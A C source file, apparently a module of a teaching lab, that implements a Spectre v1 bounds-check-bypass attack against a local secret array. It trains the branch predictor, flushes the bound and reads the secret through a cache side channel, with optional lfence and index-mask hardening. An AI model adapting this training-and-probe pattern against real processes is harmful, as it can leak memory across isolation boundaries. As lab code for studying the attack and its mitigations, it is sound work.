/*
 * Spectre v1: a bounds check is predicted to pass, and the load behind it runs with an index that is too large.
 *
 * The victim's `length` is flushed, so the branch waits for memory; five calls with good indices have taught the
 * predictor which way it goes. On the sixth the load reads the secret, and the line it chooses stays in the cache.
 */
#include "lab.h"

static const char ABOUT[] = "nobody through victim(): the secret lies beyond the end of its array";

static struct { u64 length, rest[7]; } bound __attribute__((aligned(LINE))) = {16, {0}};
static u8 array[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));

NOINLINE static void victim(u64 index)
{
    if (index < bound.length) {
#ifdef HARDEN_LFENCE
        __asm__ volatile("lfence"); /* nothing younger starts before the branch is done */
#endif
#ifdef HARDEN_MASK
        /* all ones when index < length, else 0, computed and not predicted (Linux's array_index_nospec) */
        u64 mask;
        __asm__ volatile("cmp %2, %1\n\tsbb %0, %0" : "=r"(mask) : "r"(index), "m"(bound.length) : "cc");
        index &= mask;
#endif
        touch(probe + array[index] * STRIDE);
    }
}

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    ignored[array[0]] = 1; /* what good indices touch */
    return 1;
}

static void attempt(u64 index)
{
    u64 outside = secret + index - array;
    flush_probe();
    for (int more = trainings(); more >= 0; more--) {
        flush(&bound.length);
        fence();
        victim(pick(more == 0, outside, more));
    }
}

static void done(void)
{
}
